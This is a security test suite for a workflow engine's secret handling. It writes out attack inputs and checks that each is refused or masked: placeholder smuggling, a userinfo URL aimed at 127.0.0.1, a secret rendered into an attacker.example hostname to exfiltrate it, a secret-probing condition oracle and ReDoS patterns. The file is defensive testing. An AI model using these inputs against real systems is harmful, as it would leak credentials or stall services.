/**
 * Attacks on the engine by someone who may edit and run a flow but must not
 * learn its secrets, and by anyone who can reach the API. Each test names
 * the attack it proves harmless (see SECURITY.md).
 */
import { env } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { createMasker } from '../src/crypto/redact';
import { callJson, createFlow, flowBody, token } from './helpers/api';
import { fakeUrl, received, runBlocks, setSecret, stepOf, uniquePath } from './helpers/runs';

const SECRET = 'sk-live-attack-5e3b9d1c7a';
let tok: string;
beforeAll(async () => {
  tok = await token({ tenant: 'attacked' });
});

describe('an editor who must not learn the secret', () => {
  it('cannot smuggle a placeholder in through trigger data: rendering is one pass', async () => {
    const path = uniquePath('echo');
    const { run } = await runBlocks(
      tok,
      [
        { id: 'say', type: 'log', params: { message: 'got {{trigger.msg}}' } },
        {
          id: 'send',
          type: 'http_request',
          params: { method: 'POST', url: fakeUrl(path), body: { lone: '{{trigger.msg}}', inText: 'x {{trigger.msg}}' } },
        },
      ],
      { msg: '{{SECRETS.api_key}}' },
      (flowId) => setSecret(tok, flowId, 'api_key', SECRET),
    );
    expect(stepOf(run, 'say').output.message).toBe('got {{SECRETS.api_key}}');
    const [request] = await received(path);
    expect(request!.body).not.toContain(SECRET);
    expect(JSON.parse(request!.body)).toEqual({ lone: '{{SECRETS.api_key}}', inText: 'x {{SECRETS.api_key}}' });
  });

  it('cannot bypass allowedHosts with userinfo in the URL', async () => {
    const port = new URL(fakeUrl('/')).port;
    const path = uniquePath('echo');
    const { run } = await runBlocks(
      tok,
      [
        {
          id: 'send',
          type: 'http_request',
          params: { method: 'GET', url: `http://api.postmarkapp.com@127.0.0.1:${port}${path}?k={{SECRETS.api_key}}` },
        },
      ],
      {},
      (flowId) => setSecret(tok, flowId, 'api_key', SECRET, ['api.postmarkapp.com']),
    );
    expect(stepOf(run, 'send').error).toMatch(/may not be sent to 127\.0\.0\.1/);
    expect(await received(path)).toHaveLength(0);
  });

  it('sees the error answer of an outside API that echoes the secret only masked', async () => {
    const { run } = await runBlocks(
      tok,
      [
        {
          id: 'send',
          type: 'http_request',
          params: { method: 'GET', url: fakeUrl('/fail-echo'), headers: { 'X-Token': '{{SECRETS.api_key}}' }, retries: 0 },
        },
      ],
      {},
      (flowId) => setSecret(tok, flowId, 'api_key', SECRET),
    );
    const step = stepOf(run, 'send');
    expect(step.status).toBe('failed');
    expect(step.output.status).toBe(500);
    expect(step.output.body.headers['x-token']).toBe('***');
    expect(step.output.headers['x-echo-auth']).toBe('***');
    expect(JSON.stringify(run)).not.toContain(SECRET);
  });

  it('cannot branch on a secret (a bit-by-bit oracle) nor use it as an object key', async () => {
    for (const block of [
      { id: 'c', type: 'condition', params: { left: '{{SECRETS.api_key}}', op: 'startsWith', right: 's' }, then: null, else: null },
      { id: 'c', type: 'condition', params: { left: 'x', op: 'matches', right: '{{SECRETS.api_key}}' } },
      { id: 'r', type: 'r2_object', params: { action: 'head', key: 'probe/{{SECRETS.api_key}}' } },
    ]) {
      const res = await callJson('POST', '/v1/flows', { token: tok, body: flowBody({ blocks: [block] }) });
      expect(res.status).toBe(422);
      expect(res.body.error.details[0].message).toMatch(/cannot use secrets/);
    }
  });

  it('cannot read a secret through a step output: outputs are masked before later steps read them', async () => {
    const path = uniquePath('echo');
    const { run } = await runBlocks(
      tok,
      [
        {
          id: 'echo',
          type: 'http_request',
          params: { method: 'POST', url: fakeUrl(uniquePath('echo')), headers: { 'X-Token': '{{SECRETS.api_key}}' } },
        },
        { id: 'check', type: 'condition', params: { left: '{{steps.echo.body.headers.x-token}}', op: 'startsWith', right: 'sk-' } },
        {
          id: 'leak',
          type: 'http_request',
          params: { method: 'POST', url: fakeUrl(path), body: { got: '{{steps.echo.body.headers.x-token}}' } },
        },
      ],
      {},
      (flowId) => setSecret(tok, flowId, 'api_key', SECRET),
    );
    expect(stepOf(run, 'check').output).toEqual({ result: false });
    const [request] = await received(path);
    expect(JSON.parse(request!.body)).toEqual({ got: '***' });
  });

  it("cannot change a secret's allowedHosts without knowing its value: a PUT replaces the value too", async () => {
    const flow = await createFlow(tok, {
      blocks: [
        { id: 'send', type: 'http_request', params: { method: 'GET', url: `${fakeUrl(uniquePath('echo'))}?k={{SECRETS.api_key}}` } },
      ],
    });
    await setSecret(tok, flow.id, 'api_key', SECRET, ['api.postmarkapp.com']);
    const noValue = await callJson('PUT', `/v1/flows/${flow.id}/secrets/api_key`, { token: tok, body: { allowedHosts: [] } });
    expect(noValue.status).toBe(422);
  });
});

describe('the masker against the forms a secret takes on the way', () => {
  it('shows no secret the URL parser lower-cased into a host: the error names the host as the template wrote it', async () => {
    const mixed = 'AbCdEf-Live-9f3a7Zq1';
    const { run, events } = await runBlocks(
      tok,
      [{ id: 'send', type: 'http_request', params: { method: 'GET', url: 'https://{{SECRETS.k}}.attacker.example/' } }],
      {},
      (flowId) => setSecret(tok, flowId, 'k', mixed, ['api.postmarkapp.com']),
    );
    expect(stepOf(run, 'send').error).toBe('secret "k" may not be sent to {{SECRETS.k}}.attacker.example (allowed: api.postmarkapp.com)');
    const everything = JSON.stringify([run, events]);
    expect(everything).not.toContain(mixed);
    expect(everything).not.toContain(mixed.toLowerCase());
  });

  it('masks a secret that straddles the 256 KiB cut of a response body', async () => {
    const cut = 256 * 1024;
    const { run } = await runBlocks(
      tok,
      [
        {
          id: 'send',
          type: 'http_request',
          params: { method: 'GET', url: fakeUrl(`/pad/${cut - 5}`), headers: { 'X-Token': '{{SECRETS.k}}' } },
        },
      ],
      {},
      (flowId) => setSecret(tok, flowId, 'k', SECRET),
    );
    const output = stepOf(run, 'send').output;
    expect(output.truncated).toBe(true);
    expect(output.body.length).toBeLessThanOrEqual(cut);
    expect(output.body.slice(cut - 5, cut - 2)).toBe('***');
    expect(output.body).not.toContain(SECRET.slice(0, 5));
  });

  it('names no part of a secret in an egress refusal, even when the secret rendered into the host part', async () => {
    // A secret with a slash in the userinfo: the URL parser takes its first characters as the host.
    const value = 'zq9xyq/rest-of-the-secret-7f3a';
    const { run, events } = await runBlocks(
      tok,
      [{ id: 'send', type: 'http_request', params: { method: 'GET', url: 'http://{{SECRETS.alt_key}}@api.example.com/x', retries: 0 } }],
      {},
      (flowId) => setSecret(tok, flowId, 'alt_key', value, ['api.example.com']),
    );
    expect(run.status).toBe('failed');
    const error = stepOf(run, 'send').error as string;
    expect(error).toBe('secret "alt_key" may not be sent to {{SECRETS.alt_key}}@api.example.com (allowed: api.example.com)');
    expect(JSON.stringify([run, events])).not.toContain('zq9xyq');
  });

  it('keeps a response nested deeper than 64 levels as text, so the run stays readable', async () => {
    const { run } = await runBlocks(tok, [{ id: 'deep', type: 'http_request', params: { method: 'GET', url: fakeUrl('/deep/20000') } }]);
    expect(run.status).toBe('succeeded');
    const body = stepOf(run, 'deep').output.body;
    expect(typeof body).toBe('string');
    expect(body).toHaveLength(40_000);
    const again = await callJson('GET', `/v1/runs/${run.id}`, { token: tok });
    expect(again.status).toBe(200);
    const shallow = await runBlocks(tok, [{ id: 'ok', type: 'http_request', params: { method: 'GET', url: fakeUrl('/deep/3') } }]);
    expect(stepOf(shallow.run, 'ok').output.body).toEqual([[[]]]);
  });

  it('fails a step whose params would render huge, once, with a true message, before building them', async () => {
    const { run } = await runBlocks(tok, [
      { id: 'a', type: 'http_request', params: { method: 'GET', url: fakeUrl('/pad/262000') } },
      { id: 'huge', type: 'log', params: { message: '{{steps.a.body}}'.repeat(625) } },
    ]);
    expect(run.status).toBe('failed');
    expect(stepOf(run, 'huge')).toMatchObject({
      status: 'failed',
      attempts: 1,
      error: 'the rendered params would be longer than 10485760 characters',
    });
  });

  it('cannot stall the executor with costly regular expressions: refused at save, per match, and per run', async () => {
    const bad = await callJson('POST', '/v1/flows', {
      token: tok,
      body: flowBody({
        blocks: [{ id: 'c', type: 'condition', params: { left: 'x', op: 'matches', right: '(.*){1000}(?:b|c)' }, then: null, else: null }],
      }),
    });
    expect(bad.status).toBe(422);
    expect(bad.body.error.details[0]).toMatchObject({ path: 'blocks[0].params.right', message: expect.stringMatching(/repetition/) });

    const long = 'a'.repeat(10_000);
    const once = await runBlocks(
      tok,
      [
        {
          id: 'c',
          type: 'condition',
          params: { left: '{{trigger.text}}', op: 'matches', right: '{{trigger.pattern}}' },
          then: null,
          else: null,
        },
      ],
      {
        text: long,
        pattern: '(.*){100}(?:b|c)',
      },
    );
    expect(stepOf(once.run, 'c').error).toMatch(/^matches: the pattern is too costly for this input/);

    const many = Array.from({ length: 40 }, (_, i) => ({
      id: `c${i}`,
      type: 'condition',
      params: { left: '{{trigger.text}}', op: 'matches', right: '(.*){12}(?:b|c)' },
    }));
    const budget = await runBlocks(tok, many, { text: long });
    expect(budget.run.status).toBe('failed');
    const failed = budget.run.steps.find((s: { status: string }) => s.status === 'failed');
    expect(failed.error).toMatch(/^matches: this run has spent its budget for regular expressions/);
    expect(budget.run.steps.filter((s: { status: string }) => s.status === 'succeeded').length).toBeGreaterThan(5);
  });

  it('refuses a header whose rendered value is not a byte string, naming the header and not the value, before sending', async () => {
    const path = uniquePath('echo');
    const value = 'key-with-€-sign-42';
    const { run, events } = await runBlocks(
      tok,
      [{ id: 'send', type: 'http_request', params: { method: 'GET', url: fakeUrl(path), headers: { 'X-Api-Key': '{{SECRETS.k}}' } } }],
      {},
      (flowId) => setSecret(tok, flowId, 'k', value),
    );
    expect(run.status).toBe('failed');
    expect(stepOf(run, 'send').error).toBe(
      'header X-Api-Key has characters outside Latin-1 after rendering (header values are byte strings)',
    );
    expect(JSON.stringify([run, events])).not.toContain('€-sign');
    expect(await received(path)).toEqual([]);
  });

  it('keeps no part of a secret at the cut when masking earlier copies pulled a copy split by the read limit into the kept text', async () => {
    // The outside host echoes the secret 200 times after a filler sized so that the read limit splits the
    // last copy: masking the 199 whole copies shortens the text, so the split copy's first characters
    // would land inside the kept 256 KiB.
    const copies = 200;
    const readLimit = 256 * 1024 + 3 * createMasker(new Map([['k', SECRET]])).longest;
    const kept = SECRET.length - 1;
    const filler = readLimit - (copies - 1) * SECRET.length - kept;
    const { run } = await runBlocks(
      tok,
      [
        {
          id: 'send',
          type: 'http_request',
          params: { method: 'GET', url: fakeUrl(`/pad/${filler}`), headers: { 'X-Token': '{{SECRETS.k}}'.repeat(copies) } },
        },
      ],
      {},
      (flowId) => setSecret(tok, flowId, 'k', SECRET),
    );
    const body = stepOf(run, 'send').output.body as string;
    expect(stepOf(run, 'send').output.truncated).toBe(true);
    for (let length = 1; length < SECRET.length; length++)
      expect(body.endsWith(SECRET.slice(0, length)), `ends with ${length} characters`).toBe(false);
    expect(body).not.toContain(SECRET.slice(0, 6));
  });

  it("masks the URL parser's own encodings of a secret and a secret echoed back as a JSON number", async () => {
    const odd = "it's a|b^c";
    const { run } = await runBlocks(
      tok,
      [
        { id: 'url', type: 'http_request', params: { method: 'GET', url: `${fakeUrl(uniquePath('echo'))}?q={{SECRETS.odd}}` } },
        { id: 'num', type: 'http_request', params: { method: 'GET', url: `${fakeUrl('/number')}?v={{SECRETS.digits}}` } },
        // 24 digits come back as 1.2345678901234568e+23: the first 16 of them, in exponent form (finding 2).
        { id: 'exp', type: 'http_request', params: { method: 'GET', url: `${fakeUrl('/number')}?v={{SECRETS.long_digits}}` } },
        { id: 'say', type: 'log', params: { message: 'n={{steps.exp.body.n}}' } },
      ],
      {},
      async (flowId) => {
        await setSecret(tok, flowId, 'odd', odd);
        await setSecret(tok, flowId, 'digits', '48213977');
        await setSecret(tok, flowId, 'long_digits', '123456789012345678901234');
      },
    );
    expect(stepOf(run, 'url').output.body.query).toBe('?q=***');
    expect(stepOf(run, 'num').output.body).toEqual({ n: '***' });
    expect(stepOf(run, 'exp').output.body).toEqual({ n: '***' });
    expect(stepOf(run, 'say').output.message).toBe('n=***');
    const text = JSON.stringify(run);
    expect(text).not.toContain('48213977');
    expect(text).not.toContain('1234567890123456');
    expect(text).not.toContain("it's%20a|b^c");
  });
});

describe('anyone who can reach the API', () => {
  it('gets a generic 500, without internals, when something breaks inside', async () => {
    await env.DB.prepare(
      "CREATE TRIGGER break_flows BEFORE INSERT ON flows BEGIN SELECT RAISE(ABORT, 'secret internal detail'); END",
    ).run();
    try {
      const res = await callJson('POST', '/v1/flows', { token: tok, body: flowBody() });
      expect(res.status).toBe(500);
      expect(res.body).toEqual({ error: { code: 'internal', message: 'internal error' } });
    } finally {
      await env.DB.prepare('DROP TRIGGER break_flows').run();
    }
  });
});
